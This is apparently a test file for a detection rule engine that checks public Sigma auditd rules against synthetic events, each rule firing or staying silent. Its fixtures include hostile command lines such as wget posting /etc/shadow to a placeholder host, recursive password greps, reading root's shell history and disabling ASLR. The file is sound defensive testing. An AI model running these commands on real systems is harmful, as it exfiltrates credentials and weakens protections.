// Public Sigma rules for auditd, unmodified, over our own events: each family of audit records fires a real rule, and its near neighbour does not.
import assert from 'node:assert/strict'
import { createPlainEvaluator } from '../../../../../../processors/rule-engine/evaluate/plain-evaluator.js'
import type { Evaluator } from '../../../../../../processors/rule-engine/evaluate/evaluator.js'
import type { RuleRecord } from '../../../../../../processors/rule-engine/fields/rule-event.js'
import { loadRuleFiles } from '../../../../../../processors/rule-engine/load/rule-files.js'
import type { FileEvent, KernelEvent, NetworkEvent, Process, ProcessEvent } from '../../../../../../schemas/generated/types.js'
import { sampleFileEvent, sampleProcess, sampleProcessEvent } from '../../../../../support/records/sample-records.js'
import { sampleKernelEvent } from '../../../../../support/records/sample-kernel-event.js'
import { sampleNetworkEvent } from '../../../../../support/records/sample-network-event.js'
import { sharedPath } from '../../../../../support/shared-folder.js'
import { skipWithoutCorpora } from '../../../../../support/runner/skip-because.js'

const exec = (args: readonly string[], process: Partial<Process> = {}, change: Partial<ProcessEvent> = {}): RuleRecord => ({
  topic: 'process',
  record: sampleProcessEvent({ process: sampleProcess({ args, exePath: `/usr/bin/${args[0] ?? ''}`, ...process }), ...change }),
})
const file = (change: Partial<FileEvent>): RuleRecord => ({ topic: 'file', record: sampleFileEvent(change) })
const open = (path: string, change: Partial<FileEvent> = {}): RuleRecord => file({ path, ...change })
const kernel = (change: Partial<KernelEvent>, process: Partial<Process> = {}): RuleRecord => ({
  topic: 'kernel',
  record: sampleKernelEvent({ targetPid: null, targetName: null, request: null, ...change, process: sampleProcess(process) }),
})
const network = (change: Partial<NetworkEvent>, process: Partial<Process> = {}): RuleRecord => ({
  topic: 'network',
  record: sampleNetworkEvent({ ...change, process: sampleProcess(process) }),
})
const call = (syscall: KernelEvent['syscall'], args: readonly string[], process: Partial<Process> = {}): RuleRecord =>
  kernel({ type: 'call', syscall, arguments: args }, process)
const rename = (path: string, newPath: string, result = 0): RuleRecord =>
  file({ type: 'rename', syscall: 'rename', path, newPath, isRead: false, flags: 0, result })
const made = (path: string): RuleRecord => open(path, { isRead: false, isWrite: true, isCreate: true, isCreated: true, flags: 0o101 })
const UNIT = '/etc/systemd/system/x.service'

type Case = readonly [rule: string, what: string, event: RuleRecord]

const FIRE: readonly Case[] = [
  ['Data Exfiltration with Wget', 'arguments one by one', exec(['wget', '--post-file=/etc/shadow', 'http://x'])],
  ['Suspicious Commands Linux', 'a number among the arguments', exec(['chmod', '777', '/x'])],
  ['Suspicious Commands Linux', 'the second of several searches', exec(['cp', '/bin/sh', '/tmp/x'])],
  ['Steganography Hide Files with Steghide', 'the fifth argument', exec(['steghide', 'embed', '-cf', 'a.jpg', '-ef', 'b'])],
  ['Hidden Files and Directories', 'a regular expression over an argument', exec(['touch', '/tmp/.x'])],
  ['Masquerading as Linux Crond Process', 'a type in lower case', exec(['cp', '/bin/sh', '/tmp/crond'])],
  ['Possible Coin Miner CPU Priority Param', 'no type at all', exec(['xmrig', '-o', 'pool', '--cpu-priority=5'])],
  ['Binary Padding - Linux', 'all of some keywords', exec(['truncate', '-s', '+1M', '/tmp/x'])],
  ['Credentials In Files - Linux', 'keywords in two arguments', exec(['grep', '-r', 'password', '/'])],
  ['Bpfdoor TCP Ports Redirect', 'a keyword over two arguments', exec(['iptables', '-t', 'nat', '-A', 'P', '--to-ports', '42392'])],
  ['Suspicious History File Operations - Linux', 'keywords next to a type', exec(['cat', '/root/.bash_history'])],
  ['System Information Discovery - Auditd', 'arguments, in a rule of two types', exec(['kmod', 'list'])],
  ['System Information Discovery - Auditd', 'a path, in a rule of two types', open('/etc/issue')],
  ['Modification of ld.so.preload', 'a path', open('/etc/ld.so.preload', { isWrite: true })],
  ['Modification of ld.so.preload', 'the new name of a file', rename('/tmp/x', '/etc/ld.so.preload')],
  [
    'Modification of ld.so.preload',
    'a path that was removed',
    file({ type: 'unlink', syscall: 'unlink', path: '/etc/ld.so.preload', result: 0 }),
  ],
  ['Auditing Configuration Changes on Linux Host', 'a path with a wildcard', open('/etc/audit/audit.rules')],
  ['Use Of Hidden Paths Or Files', 'the path of a program', exec(['x'], { exePath: '/tmp/.x/x' })],
  ['Systemd Service Creation', 'a file that was made', made(UNIT)],
  ['Systemd Service Creation', 'a file that was moved there', rename('/tmp/x.service', UNIT)],
  ['Systemd Service Creation', 'a link', file({ type: 'symlink', syscall: 'symlink', path: UNIT, linkTarget: '/tmp/x', result: 0 })],
  ['Split A File Into Pieces - Linux', 'the command name', exec(['split', 'x'], { name: 'split' })],
  ['Program Executions in Suspicious Folders', 'the executable', exec(['x'], { exePath: '/var/www/x' })],
  ['Program Executions in Suspicious Folders', 'a wildcard inside', exec(['x'], { exePath: '/home/u/public_html/x' })],
  ['Creation Of An User Account', 'the executable, next to a type that no event has', exec(['useradd', 'x'])],
  ['Webshell Remote Command Execution', 'the call and the effective user', exec(['sh'], { euid: 33 })],
  ['Webshell Remote Command Execution', 'execveat', exec(['sh'], { euid: 33 }, { syscall: 'execveat' })],
  [
    'Loading of Kernel Module via Insmod',
    'command name and executable',
    exec(['insmod', 'x.ko'], { name: 'insmod', exePath: '/usr/bin/kmod' }),
  ],
  ['ASLR Disabled Via Sysctl or Direct Syscall - Linux', 'an argument of a call', call('personality', ['40000'])],
  ['ASLR Disabled Via Sysctl or Direct Syscall - Linux', 'arguments of a program', exec(['sysctl', '-w', 'kernel.randomize_va_space=0'])],
  ['Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall', 'one of some arguments', call('syslog', ['5', '0', '0'])],
  ['System Info Discovery via Sysinfo Syscall', 'the call alone', call('sysinfo', [])],
  ['Special File Creation via Mknod Syscall', 'mknod', kernel({ type: 'mknod', syscall: 'mknod', path: '/tmp/x' })],
  ['Audio Capture', 'a call by a program', kernel({ type: 'memfd', syscall: 'memfd_create' }, { exePath: '/usr/bin/ecasound' })],
  [
    'Linux AF_ALG Socket Creation - Kernel Crypto API Exploit Indicator',
    'the family of a socket',
    network({ type: 'socket', syscall: 'socket', family: 38 }),
  ],
]

const STAY_SILENT: readonly Case[] = [
  ['Data Exfiltration with Wget', 'another place of the argument', exec(['wget', 'http://x', '--post-file=/etc/shadow'])],
  ['Data Exfiltration with Wget', 'a program that was refused', exec(['wget', '--post-file=/etc/shadow'], {}, { result: -13 })],
  ['Binary Padding - Linux', 'what its filter excludes', exec(['dd', 'if=/dev/zero', 'of=x'])],
  ['Binary Padding - Linux', 'one keyword too few', exec(['truncate', 'x'])],
  ['System Information Discovery - Auditd', 'a path as an argument', exec(['cat', '/etc/issue'])],
  ['System Information Discovery - Auditd', 'the name of the program as a path', open('/usr/bin/uptime')],
  ['Modification of ld.so.preload', 'a neighbour', open('/etc/ld.so.preload.bak')],
  ['Use Of Hidden Paths Or Files', 'a path that its filter excludes', open('/home/u/.cache/x')],
  ['Systemd Service Creation', 'a file that was there', open(UNIT, { isWrite: true, isCreate: true })],
  ['Systemd Service Creation', 'a file that was moved away', rename(UNIT, '/tmp/x.service')],
  ['Systemd Service Creation', 'a move that was refused', rename('/tmp/x.service', UNIT, -13)],
  ['Systemd Service Creation', 'a file below that was made elsewhere', made('/etc/systemd/x.service')],
  ['Split A File Into Pieces - Linux', 'a file that the program opens', open('/x', { process: sampleProcess({ name: 'split' }) })],
  ['Webshell Remote Command Execution', 'another user', exec(['sh'], { euid: 34 })],
  ['Webshell Remote Command Execution', 'another call', open('/x', { process: sampleProcess({ euid: 33 }) })],
  ['ASLR Disabled Via Sysctl or Direct Syscall - Linux', 'another argument', call('personality', ['ffffffff'])],
  ['Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall', 'a read', call('syslog', ['3', '0', '0'])],
  ['System Info Discovery via Sysinfo Syscall', 'a program of its filter', call('sysinfo', [], { exePath: '/opt/bin/splunkd' })],
  ['System Info Discovery via Sysinfo Syscall', 'another call', call('syslog', ['3'])],
  ['Special File Creation via Mknod Syscall', 'mknodat', kernel({ type: 'mknod', syscall: 'mknodat', path: '/tmp/x' })],
  ['Audio Capture', 'the program alone', exec(['ecasound'])],
  ['Audio Capture', 'the call of another program', kernel({ type: 'memfd', syscall: 'memfd_create' })],
  [
    'Linux AF_ALG Socket Creation - Kernel Crypto API Exploit Indicator',
    'a socket of IPv4',
    network({ type: 'socket', syscall: 'socket', family: 2 }),
  ],
  [
    'Linux AF_ALG Socket Creation - Kernel Crypto API Exploit Indicator',
    'a program of its filter',
    network({ type: 'socket', syscall: 'socket', family: 38 }, { exePath: '/usr/sbin/cryptsetup' }),
  ],
]

describe('public Sigma rules for auditd', () => {
  let evaluator: Evaluator
  before(function () {
    const folder = sharedPath('corpora', 'sigma')
    if (folder === null) return skipWithoutCorpora(this)
    evaluator = createPlainEvaluator(loadRuleFiles([folder]).ruleSet)
  })
  const fired = (event: RuleRecord): string[] => evaluator.evaluate({ event, container: { state: 'host' } }).matched.map(({ name }) => name)

  for (const [rule, what, event] of FIRE) {
    it(`'${rule}' fires for ${what}`, () => {
      assert.ok(fired(event).includes(rule))
    })
  }
  for (const [rule, what, event] of STAY_SILENT) {
    it(`'${rule}' stays silent for ${what}`, () => {
      assert.ok(!fired(event).includes(rule))
    })
  }
  it('are evaluated on each record of an event by itself, not on a mixture', () => {
    // A program and a path of two other rules: no rule may join them.
    assert.deepEqual(fired(open('/nowhere', { process: sampleProcess({ args: ['wget', '--post-file=x'], exePath: '/usr/bin/wget' }) })), [])
  })
})
